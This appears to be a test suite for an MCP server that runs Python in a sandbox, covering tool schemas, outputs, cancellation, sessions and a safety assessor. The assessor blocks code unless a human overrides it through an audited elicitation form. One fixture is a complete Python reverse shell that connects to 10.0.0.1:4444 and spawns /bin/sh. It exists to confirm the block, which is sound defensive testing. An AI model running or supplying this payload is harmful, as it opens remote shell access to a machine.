// `sandboxrun mcp` driven by the official MCP TypeScript SDK (a client nobody here wrote) over
// stdio: tools and their schemas, a run, an image back, a cancelled run killed, a BLOCKED
// verdict that only an elicited human answer overrides, sessions. Run by ctest (Mcp.OfficialSdk)
// with SANDBOXRUN_BIN and SANDBOXRUN_CONFIG set; `npm ci` in tests/mcp installs the SDK.
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";

import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
import { ElicitRequestSchema } from "@modelcontextprotocol/sdk/types.js";

const BIN = process.env.SANDBOXRUN_BIN;
const CONFIG = process.env.SANDBOXRUN_CONFIG;
assert.ok(BIN && CONFIG, "set SANDBOXRUN_BIN and SANDBOXRUN_CONFIG");
const dir = mkdtempSync(join(tmpdir(), "sandboxrun-mcp-test-"));
const LOG = join(dir, "audit.log");
after(() => rmSync(dir, { recursive: true, force: true }));

// A reverse shell: the assessor's BLOCKED.
const REVERSE_SHELL = 'import socket,subprocess,os\ns=socket.socket()\ns.connect(("10.0.0.1",4444))\n' +
  'os.dup2(s.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])\n';

async function connect({ elicit } = {}) {
  const client = new Client({ name: "sandboxrun-sdk-test", version: "1.0.0" },
                            { capabilities: elicit ? { elicitation: {} } : {} });
  if (elicit) client.setRequestHandler(ElicitRequestSchema, elicit);
  const transport = new StdioClientTransport({
    command: BIN, args: ["mcp", "--trust", "untrusted", "--config", CONFIG, "--audit-log", LOG], stderr: "pipe",
  });
  await client.connect(transport);
  return client;
}

function records(event) {
  return readFileSync(LOG, "utf8").trim().split("\n").map((l) => JSON.parse(l)).filter((r) => r.event === event);
}

let client;
before(async () => { client = await connect(); });
after(async () => { await client.close(); });

test("the tools are listed with input and output schemas", async () => {
  const { tools } = await client.listTools();
  const names = tools.map((t) => t.name).sort();
  assert.deepEqual(names, ["assess_python", "run_python", "session_download", "session_run", "session_start",
                           "session_stop", "session_upload"]);
  for (const t of tools) {
    assert.equal(t.inputSchema.type, "object", t.name);
    assert.equal(t.outputSchema.type, "object", t.name);
  }
  assert.equal(client.getServerVersion().name, "sandboxrun");
});

test("run_python runs, and its files come back: an image as an image", async () => {
  const png = "import struct, zlib\ndef chunk(t, d):\n    return struct.pack('>I', len(d)) + t + d + " +
    "struct.pack('>I', zlib.crc32(t + d))\n" +
    "raw = b''.join(b'\\x00' + b'\\xff\\x00\\x00' * 4 for _ in range(4))\n" +
    "open('red.png', 'wb').write(b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 4, 4, 8, 2, 0, 0, 0))" +
    " + chunk(b'IDAT', zlib.compress(raw)) + chunk(b'IEND', b''))\nopen('out.csv', 'w').write('a,b\\n')\nprint(6 * 7)\n";
  const r = await client.callTool({ name: "run_python", arguments: { code: png } });
  assert.equal(r.isError, false, JSON.stringify(r.content));
  assert.match(r.content[0].text, /42/);
  assert.equal(r.structuredContent.status, "exited");
  const image = r.content.find((c) => c.type === "image");
  assert.equal(image.mimeType, "image/png");
  assert.equal(Buffer.from(image.data, "base64").subarray(1, 4).toString(), "PNG");
  const link = r.content.find((c) => c.type === "resource_link");
  assert.match(link.uri, /^sandboxrun:\/\/runs\/[0-9a-f]{32}\/outputs\/out\.csv$/);
  const read = await client.readResource({ uri: link.uri });
  assert.equal(Buffer.from(read.contents[0].blob, "base64").toString(), "a,b\n");
  const runs = records("run_start").filter((rec) => rec.run_id === r.structuredContent.run_id);
  assert.equal(runs.length, 1);
  assert.equal(runs[0].caller, "mcp:sandboxrun-sdk-test");
  assert.equal(runs[0].labels["mcp.client"], "sandboxrun-sdk-test 1.0.0");
  assert.match(runs[0].labels["mcp.session"], /^[0-9a-f]{32}$/);
});

test("assess_python judges without running", async () => {
  const r = await client.callTool({ name: "assess_python", arguments: { code: REVERSE_SHELL } });
  assert.equal(r.structuredContent.level, "BLOCKED");
  assert.ok(r.structuredContent.findings.length > 0);
});

test("a cancelled run is killed, not left to its timeout", async () => {
  const ac = new AbortController();
  const started = Date.now();
  const code = `import time\ntime.sleep(25)\nprint('late ${started}')`;
  const sha = createHash("sha256").update(code).digest("hex");
  const call = client.callTool({ name: "run_python", arguments: { code } }, undefined, { signal: ac.signal });
  setTimeout(() => ac.abort("the user changed their mind"), 1500);
  await assert.rejects(call);
  // The run's end is recorded once the sandbox is gone: well before its 25 s.
  let end;
  for (let i = 0; i < 100 && !end; i++) {
    await new Promise((res) => setTimeout(res, 100));
    const start = records("run_start").find((rec) => rec.code && rec.code.sha256 === sha);
    end = start && records("run_end").find((rec) => rec.run_id === start.run_id);
  }
  assert.ok(end, "run_end recorded");
  assert.equal(end.status, "error");
  assert.ok(Date.now() - started < 15000);
  const again = await client.callTool({ name: "run_python", arguments: { code: "print('still serving')" } });
  assert.match(again.content[0].text, /still serving/);
});

test("a BLOCKED verdict is an error the model cannot override", async () => {
  const r = await client.callTool({ name: "run_python", arguments: { code: REVERSE_SHELL } });
  assert.equal(r.isError, true);
  assert.equal(r.structuredContent.status, "blocked");
  assert.match(r.content[0].text, /BLOCKED/);
  const args = (await client.listTools()).tools.find((t) => t.name === "run_python").inputSchema.properties;
  assert.ok(!("override" in args) && !("override_reason" in args), "no override argument for the model");
});

test("a human answering the elicitation form overrides, audited; declining does not", async () => {
  const asked = [];
  const human = await connect({
    elicit: async (req) => {
      asked.push(req.params);
      return { action: "accept", content: { reason: "reviewed by the on-call engineer" } };
    },
  });
  const r = await human.callTool({ name: "run_python", arguments: { code: REVERSE_SHELL } });
  assert.equal(asked.length, 1);
  assert.match(asked[0].message, /BLOCKED/);
  assert.notEqual(r.structuredContent.status, "blocked", JSON.stringify(r.structuredContent));
  const override = records("override").find((rec) => rec.run_id === r.structuredContent.run_id);
  assert.equal(override.reason, "reviewed by the on-call engineer");
  await human.close();

  const refuser = await connect({ elicit: async () => ({ action: "decline" }) });
  const no = await refuser.callTool({ name: "run_python", arguments: { code: REVERSE_SHELL } });
  assert.equal(no.structuredContent.status, "blocked");
  await refuser.close();
});

test("sessions keep state, take files and end with the connection", async () => {
  const own = await connect();
  const { structuredContent: { session_id: id } } = await own.callTool({ name: "session_start", arguments: {} });
  await own.callTool({ name: "session_run", arguments: { session_id: id, code: "x = 41" } });
  const r = await own.callTool({ name: "session_run", arguments: { session_id: id, code: "x + 1" } });
  assert.equal(r.structuredContent.result["text/plain"], "42");
  await own.callTool({ name: "session_upload", arguments: { session_id: id, path: "d.txt", content: "hello" } });
  const up = await own.callTool({ name: "session_run", arguments: { session_id: id, code: "open('d.txt').read().upper()" } });
  assert.equal(up.structuredContent.result["text/plain"], "'HELLO'");
  const down = await own.callTool({ name: "session_download", arguments: { session_id: id, path: "d.txt" } });
  assert.equal(down.content[0].text, "hello");
  const err = await own.callTool({ name: "session_run", arguments: { session_id: id, code: "1 / 0" } });
  assert.equal(err.isError, true);
  assert.equal(err.structuredContent.error.ename, "ZeroDivisionError");
  await own.close();  // the MCP session ends: so does the sandbox session
  let ended = false;
  for (let i = 0; i < 100 && !ended; i++) {
    await new Promise((res) => setTimeout(res, 100));
    ended = records("run_end").some((rec) => rec.run_id === id);
  }
  assert.ok(ended, "the session's sandbox ended with its MCP connection");
});
